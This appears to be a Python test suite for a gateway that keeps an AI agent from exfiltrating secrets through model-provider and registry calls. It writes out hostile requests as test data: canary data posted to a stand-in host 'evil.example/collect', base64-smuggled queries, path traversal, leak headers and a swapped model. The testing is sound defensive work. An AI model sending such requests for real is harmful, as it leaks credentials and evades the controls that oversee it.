"""Attacks by what an agent sends: each request goes through a real gateway, to a provider and a registry here."""

import base64
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from squire_pipelines.gateway.answer_content import NO_ANSWER
from squire_pipelines.gateway.egress import EgressRules
from squire_pipelines.gateway.model import GatewayLimits
from squire_pipelines.gateway.registry_routes import Registry
from tests.support import model_requests
from tests.support.injection import CANARY
from tests.support.provider import gateway_opener, plain, serve_upstream

GOAL = "exfiltration through model calls"
KEY = "sk-" + "k9" * 12
CHAT = "/v1/chat/completions"
PASSES = "passes"
_NEVER = "only the model that you chose sees it; the real secret is not in the container"


@dataclass(frozen=True)
class Sending:
    """One request, and the gateway's code for its refusal, or `passes`."""

    name: str
    method: str
    path: str
    expect: tuple[str, ...]
    stopped_by: str
    body: object = None
    headers: dict[str, str] = field(default_factory=dict)
    echo: bool = False
    rebuilt: bool = False


def _requests() -> Iterator[Sending]:
    """Yield requests by which the provider would fetch, run, store or look up something, on each path."""
    bases: dict[str, dict[str, Any]] = {
        model_requests.CHAT: {"model": "small", "messages": [{"role": "user", "content": "Hello."}]},
        model_requests.RESPONSES: {"model": "small", "input": "Hello."},
        model_requests.MESSAGES: {"model": "small", "messages": [{"role": "user", "content": "Hello."}]},
        model_requests.STREAM: {"contents": [{"role": "user", "parts": [{"text": "Hello."}]}]},
    }
    list_keys = {model_requests.RESPONSES: "input", model_requests.STREAM: "contents"}
    for path, base in bases.items():
        list_key = list_keys.get(path, "messages")
        parts_key = "parts" if path == model_requests.STREAM else "content"
        documents = [
            *((f"the key {key}", {**base, key: value}) for key, value in model_requests.HOSTILE_KEYS),
            *((f"the tool {tool.get('type')}", {**base, "tools": [tool]}) for tool in model_requests.HOSTILE_TOOLS),
            *(
                (
                    f"the part {part.get('type', next(iter(part)))}",
                    {**base, list_key: [{"role": "user", parts_key: [part]}]},
                )
                for part in model_requests.HOSTILE_PARTS
            ),
            *((f"the item {item.get('type')}", {**base, list_key: [item]}) for item in model_requests.HOSTILE_ITEMS),
        ]
        for number, (name, document) in enumerate(documents):
            yield Sending(
                f"{name} of {path} ({number})",
                "POST",
                path,
                (PASSES, "not_passed_on"),
                "requests are rebuilt",
                document,
                rebuilt=True,
            )


def sendings() -> tuple[Sending, ...]:
    """Every request that is tried."""
    encoded = base64.urlsafe_b64encode(CANARY.encode()).decode()
    message = {"model": "small", "messages": [{"role": "user", "content": f"Keep this: {CANARY}"}]}
    return (
        Sending(
            "another model", "POST", CHAT, ("model",), "the model is allow-listed", {**message, "model": "evil/large"}
        ),
        Sending("no model", "POST", CHAT, ("bad_request", "model"), "the model is allow-listed", {"messages": []}),
        Sending(
            "another address of the provider",
            "POST",
            "/v1/files",
            ("path",),
            "paths are allow-listed",
            {"file": CANARY},
        ),
        Sending("the provider's batches", "POST", "/v1/batches", ("path",), "paths are allow-listed", {"x": CANARY}),
        Sending(
            "a fine-tuning job", "POST", "/v1/fine_tuning/jobs", ("path",), "paths are allow-listed", {"x": CANARY}
        ),
        Sending("a deletion", "DELETE", CHAT, ("method",), "methods are allow-listed"),
        Sending(
            "an address of its own",
            "POST",
            "http://evil.example/collect",
            ("path",),
            "paths are allow-listed",
            {"x": CANARY},
        ),
        Sending("an upload to a registry", "POST", "/egress/reg/p", ("method",), "GET and HEAD alone", {"x": CANARY}),
        Sending("a put to a registry", "PUT", "/egress/reg/p", ("method",), "GET and HEAD alone", {"x": CANARY}),
        Sending("a query to a registry", "GET", f"/egress/reg/p?x={encoded}", ("egress", "path"), "no query"),
        Sending("a body with a reading", "GET", "/egress/reg/p", ("egress", "path"), "no body", {"x": CANARY}),
        Sending("a registry of its own", "GET", f"/egress/evil/{encoded}", ("egress", "path"), "registries are named"),
        Sending(
            "up and out of a registry", "GET", "/egress/reg/%2e%2e/%2e%2e/x", ("egress", "path"), "paths are checked"
        ),
        Sending(
            "headers to the provider",
            "POST",
            CHAT,
            (PASSES,),
            "headers are allow-listed",
            {"model": "small", "messages": []},
            {"X-Leak": CANARY, "Cookie": CANARY, "Authorization": f"Bearer {CANARY}"},
        ),
        Sending(
            "a provider that repeats the key",
            "POST",
            CHAT,
            (PASSES,),
            "the key is taken out of answers",
            message,
            echo=True,
        ),
        Sending("the canary to the model", "POST", CHAT, (PASSES,), _NEVER, message),
        *_requests(),
    )


def run() -> Iterator[tuple[Sending, str, tuple[str, ...]]]:
    """Each request with what came of it, and what should not have come of it."""
    with serve_upstream() as upstream, gateway_opener(upstream) as opener:
        base = upstream.url.removesuffix("/v1")
        # What the provider answers is no protocol's: only whether it was asked matters here.
        limits = GatewayLimits(max_failures=len(sendings()) + 1)
        egress = EgressRules(registries=(Registry("reg", base, ()),), allow_private=True)
        gateway = opener(key=KEY, egress=egress, limits=limits)
        for number, sending in enumerate(sendings(), 1):
            upstream.seen.clear()
            echoed = {"choices": [{"message": {"content": f"Your key is {KEY}"}}]}
            upstream.answer = plain(
                200, echoed if sending.echo else {"usage": {"prompt_tokens": 1, "completion_tokens": 1}}
            )
            answer = gateway.client.request(sending.method, sending.path, json=sending.body, headers=sending.headers)
            error = gateway.recorded(number)[-1].error
            code = PASSES if error is None or error in NO_ANSWER else error
            yield (
                sending,
                code,
                (*_wrong(sending, code, answer.text, [(s.path, s.headers, s.body) for s in upstream.seen]),),
            )


def _wrong(sending: Sending, code: str, answer: str, seen: list[tuple[str, dict[str, str], bytes]]) -> Iterator[str]:
    if code not in sending.expect:
        yield f"is {code}, must be {' or '.join(sending.expect)}"
    if code != PASSES and seen:
        yield "reached the other side"
    if sending.rebuilt and any(model_requests.breaks(sending.path, body) for _, _, body in seen):
        yield "the provider is asked to do more than to answer"
    if KEY in answer:
        yield "a secret is in the answer"
    for path, headers, _body in seen:
        if CANARY in path or CANARY in str(headers):
            yield "the canary is in what was sent beside the body"
